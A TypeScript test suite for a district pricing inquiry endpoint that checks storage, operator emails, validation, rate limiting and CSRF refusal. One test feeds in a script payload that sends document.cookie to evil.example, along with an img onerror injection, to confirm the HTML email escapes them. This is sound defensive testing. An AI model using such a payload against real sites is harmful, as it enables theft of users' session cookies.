import { afterEach, describe, expect, it } from 'vitest';
import type { Mailer } from '../../src/ports/mailer.ts';
import { createTestApp, type TestApp } from '../helpers/test-app.ts';
import { buildTrader } from '../trading/trading-builders.ts';

const OPERATORS = 'sales@tradearena.example, Support@TradeArena.example';
const SENT = 'Inquiry Sent Successfully. We will get back to you within 1 business day.';

const VALID = {
  name: 'Dana Whitfield',
  email: 'dana@district.example',
  institution: 'Springfield Unified School District',
  numberOfSchools: 12,
  estimatedEducators: 340,
  district: 'Springfield Unified',
  currentSolution: 'Paper portfolios',
  timeline: 'next-semester',
  message: 'We would like a quote for all our high schools.\nThank you!',
};

let t: TestApp | undefined;
afterEach(async () => {
  await t?.close();
  t = undefined;
});

async function start(opts: { env?: Record<string, string>; mailer?: Mailer } = {}) {
  const logged: Array<{ level: number; msg: string; inquiryId?: number; to?: string }> = [];
  t = await createTestApp({
    env: { ADMIN_EMAILS: OPERATORS, ...opts.env },
    ...(opts.mailer ? { deps: { mailer: opts.mailer } } : {}),
    logger: { level: 'warn', stream: { write: (line: string) => logged.push(JSON.parse(line)) } },
  });
  return { app: t, logged };
}

const submit = (
  app: TestApp,
  payload: Record<string, unknown>,
  extra: { remoteAddress?: string; cookie?: string } = {},
) =>
  app.app.inject({
    method: 'POST',
    url: '/api/district-inquiry',
    payload,
    ...(extra.remoteAddress ? { remoteAddress: extra.remoteAddress } : {}),
    ...(extra.cookie ? { headers: { cookie: extra.cookie } } : {}),
  });

const storedInquiries = (app: TestApp) =>
  app.deps.db.db.selectFrom('district_inquiries').selectAll().orderBy('id').execute();

describe('POST /api/district-inquiry', () => {
  it('stores the inquiry and emails it to every operator, signed in or not', async () => {
    const { app } = await start();
    const res = await submit(app, VALID);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json()).toEqual({ success: true, message: SENT });

    const [row] = await storedInquiries(app);
    expect(row).toMatchObject({
      name: 'Dana Whitfield',
      email: 'dana@district.example',
      institution: 'Springfield Unified School District',
      number_of_schools: 12,
      estimated_educators: 340,
      district: 'Springfield Unified',
      current_solution: 'Paper portfolios',
      timeline: 'next-semester',
      message: 'We would like a quote for all our high schools.\nThank you!',
      client_address: '127.0.0.1',
      user_id: null,
      created_at: new Date('2026-11-18T15:00:00Z').getTime(),
    });

    expect(app.mailer.sent.map((m) => m.to)).toEqual(['sales@tradearena.example', 'support@tradearena.example']);
    const mail = app.mailer.sent[0]!;
    expect(mail.subject).toBe(`District pricing inquiry #${row!.id}: Springfield Unified School District`);
    for (const part of [mail.text, mail.html]) {
      for (const value of ['Dana Whitfield', 'dana@district.example', 'Springfield Unified', 'Paper portfolios', '340'])
        expect(part).toContain(value);
      expect(part).toContain('Next semester');
      expect(part).toContain('within 1 business day');
    }
    expect(mail.text).toContain('Message:\nWe would like a quote for all our high schools.\nThank you!');

    const teacher = await buildTrader(app.deps.db.db);
    const signedIn = await submit(app, { ...VALID, name: 'Signed In' }, { cookie: teacher.cookie });
    expect(signedIn.statusCode, signedIn.body).toBe(200);
    expect((await storedInquiries(app))[1]).toMatchObject({ name: 'Signed In', user_id: teacher.id });
  });

  it('trims the fields, takes digit strings as numbers and blank optional fields as not given', async () => {
    const { app } = await start();
    const res = await submit(app, {
      ...VALID,
      name: '  Dana  ',
      email: ' dana@district.example ',
      numberOfSchools: ' 3 ',
      estimatedEducators: '45',
      district: '   ',
      currentSolution: null,
      message: '',
    });
    expect(res.statusCode, res.body).toBe(200);
    const [row] = await storedInquiries(app);
    expect(row).toMatchObject({
      name: 'Dana',
      email: 'dana@district.example',
      number_of_schools: 3,
      estimated_educators: 45,
      district: null,
      current_solution: null,
      message: null,
    });
    expect(app.mailer.sent[0]!.text).not.toContain('Message:');
  });

  it('escapes the HTML part: markup in the name, institution or message is shown as text', async () => {
    const { app } = await start();
    const res = await submit(app, {
      ...VALID,
      name: 'Eve <img src=x onerror=alert(1)>',
      institution: 'District "A" & <b>B</b>',
      message: "<script>fetch('https://evil.example/'+document.cookie)</script>",
    });
    expect(res.statusCode, res.body).toBe(200);
    const mail = app.mailer.sent[0]!;
    expect(mail.html).not.toContain('<script');
    expect(mail.html).not.toContain('<img');
    expect(mail.html).not.toContain('<b>B</b>');
    expect(mail.html).toContain('Eve &lt;img src=x onerror=alert(1)&gt;');
    expect(mail.html).toContain('District &quot;A&quot; &amp; &lt;b&gt;B&lt;/b&gt;');
    expect(mail.html).toContain('&lt;script&gt;fetch(&#39;https://evil.example/&#39;+document.cookie)&lt;/script&gt;');
    expect(mail.text).toContain("<script>fetch('https://evil.example/'+document.cookie)</script>");
  });

  const refusals: Array<[string, Record<string, unknown>, string]> = [
    ['a missing name', { name: undefined }, 'Please enter your name'],
    ['a blank name', { name: '   ' }, 'Please enter your name'],
    ['a name over 100 characters', { name: 'x'.repeat(101) }, 'Your name must be at most 100 characters'],
    [
      'a name with a control character',
      { name: 'Dana\u0000' },
      'Names cannot contain control characters, text-direction controls or broken characters',
    ],
    [
      'a name with a text-direction control',
      { name: 'Dana\u202Eevil' },
      'Names cannot contain control characters, text-direction controls or broken characters',
    ],
    ['a missing email', { email: '' }, 'Please enter your email address'],
    ['an email that is not one', { email: 'dana-at-district' }, 'Please enter a valid email address'],
    ['an email over 254 characters', { email: `${'a'.repeat(250)}@x.org` }, 'Please enter a valid email address'],
    ['a missing institution', { institution: undefined }, 'Please enter your district or institution'],
    [
      'an institution over 200 characters',
      { institution: 'x'.repeat(201) },
      'The district or institution must be at most 200 characters',
    ],
    [
      'an institution with a control character',
      { institution: 'Springfield\u0007' },
      'Text cannot contain control characters, text-direction controls or broken characters',
    ],
    ['a missing number of schools', { numberOfSchools: undefined }, 'Please enter the number of schools'],
    ['a blank number of schools', { numberOfSchools: '' }, 'Please enter the number of schools'],
    ['zero schools', { numberOfSchools: 0 }, 'The number of schools must be a whole number from 1 to 10,000'],
    [
      'a fraction of a school',
      { numberOfSchools: 1.5 },
      'The number of schools must be a whole number from 1 to 10,000',
    ],
    ['too many schools', { numberOfSchools: 10_001 }, 'The number of schools must be a whole number from 1 to 10,000'],
    [
      'schools as words',
      { numberOfSchools: 'twelve' },
      'The number of schools must be a whole number from 1 to 10,000',
    ],
    ['a missing educator estimate', { estimatedEducators: null }, 'Please enter the estimated number of educators'],
    [
      'a negative educator estimate',
      { estimatedEducators: -4 },
      'The estimated number of educators must be a whole number from 1 to 1,000,000',
    ],
    [
      'too many educators',
      { estimatedEducators: 1_000_001 },
      'The estimated number of educators must be a whole number from 1 to 1,000,000',
    ],
    ['a district over 200 characters', { district: 'x'.repeat(201) }, 'The district must be at most 200 characters'],
    [
      'a current solution over 200 characters',
      { currentSolution: 'x'.repeat(201) },
      'The current solution must be at most 200 characters',
    ],
    [
      'a current solution that is not text',
      { currentSolution: 42 },
      'Text cannot contain control characters, text-direction controls or broken characters',
    ],
    [
      'an unknown timeline',
      { timeline: 'someday' },
      'Please choose a timeline: immediate, current-semester, next-semester, next-year or exploring',
    ],
    [
      'a missing timeline',
      { timeline: undefined },
      'Please choose a timeline: immediate, current-semester, next-semester, next-year or exploring',
    ],
    ['a message over 2,000 characters', { message: 'x'.repeat(2001) }, 'Your message can be at most 2,000 characters'],
    [
      'a message with a NUL',
      { message: 'Hello\u0000there' },
      'Text cannot contain control characters, text-direction controls or broken characters',
    ],
  ];

  it.each(refusals)(
    'refuses %s with a 400 and the field’s message, storing and sending nothing',
    async (_, change, message) => {
      const { app } = await start();
      const res = await submit(app, { ...VALID, ...change });
      expect(res.statusCode, res.body).toBe(400);
      expect(res.json()).toEqual({ error: message, message, code: 'REQUEST_INVALID' });
      expect(await storedInquiries(app)).toEqual([]);
      expect(app.mailer.sent).toEqual([]);
    },
  );

  it('answers the first problem in form order, and accepts 2,000 characters of message with line breaks', async () => {
    const { app } = await start();
    const empty = await submit(app, {});
    expect(empty.json().message).toBe('Please enter your name');
    const noSchools = await submit(app, { ...VALID, numberOfSchools: 0, estimatedEducators: 0, timeline: 'x' });
    expect(noSchools.json().message).toBe('The number of schools must be a whole number from 1 to 10,000');
    const longest = await submit(app, { ...VALID, message: `${'x'.repeat(1998)}\r\n`, timeline: 'exploring' });
    expect(longest.statusCode, longest.body).toBe(200);
  });

  it('limits one address to 5 inquiries an hour; other addresses and invalid attempts do not count', async () => {
    const { app } = await start();
    const school = '203.0.113.7';
    expect((await submit(app, { ...VALID, email: 'bad' }, { remoteAddress: school })).statusCode).toBe(400);
    for (let i = 0; i < 5; i++) expect((await submit(app, VALID, { remoteAddress: school })).statusCode).toBe(200);
    const limited = await submit(app, VALID, { remoteAddress: school });
    expect(limited.statusCode).toBe(429);
    expect(limited.json()).toMatchObject({ code: 'RATE_LIMITED' });
    expect(limited.json().message).toMatch(/^Too many attempts\. Please wait \d+ minutes? and try again\.$/);
    expect(Number(limited.headers['retry-after'])).toBeGreaterThan(0);
    expect((await submit(app, VALID, { remoteAddress: '198.51.100.9' })).statusCode).toBe(200);
    expect(await storedInquiries(app)).toHaveLength(6);

    app.clock.advance(12 * 60_000);
    expect((await submit(app, VALID, { remoteAddress: school })).statusCode).toBe(200);
  });

  it('refuses a cross-site post like every other POST', async () => {
    const { app } = await start();
    const res = await app.app.inject({
      method: 'POST',
      url: '/api/district-inquiry',
      payload: VALID,
      headers: { origin: 'https://evil.example' },
    });
    expect(res.statusCode).toBe(403);
    expect(res.json().code).toBe('AUTH_CROSS_SITE');
    expect(await storedInquiries(app)).toEqual([]);
  });

  it('without ADMIN_EMAILS stores the inquiry, sends nothing and logs a warning', async () => {
    const { app, logged } = await start({ env: { ADMIN_EMAILS: '' } });
    const res = await submit(app, VALID);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json()).toEqual({ success: true, message: SENT });
    const [row] = await storedInquiries(app);
    expect(row?.name).toBe('Dana Whitfield');
    expect(app.mailer.sent).toEqual([]);
    expect(logged).toContainEqual(
      expect.objectContaining({ level: 40, inquiryId: row!.id, msg: expect.stringContaining('ADMIN_EMAILS is empty') }),
    );
  });

  it('keeps the inquiry and still answers the success when the mail server fails, logging each failed operator', async () => {
    const delivered: string[] = [];
    const flaky: Mailer = {
      async send(m) {
        if (m.to.startsWith('sales@')) throw new Error('connect ECONNREFUSED 127.0.0.1:25');
        delivered.push(m.to);
      },
    };
    const { app, logged } = await start({ mailer: flaky });
    const res = await submit(app, VALID);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json()).toEqual({ success: true, message: SENT });
    const [row] = await storedInquiries(app);
    expect(row?.email).toBe('dana@district.example');
    expect(delivered).toEqual(['support@tradearena.example']);
    expect(logged).toContainEqual(
      expect.objectContaining({ level: 50, inquiryId: row!.id, to: 'sales@tradearena.example' }),
    );
  });
});
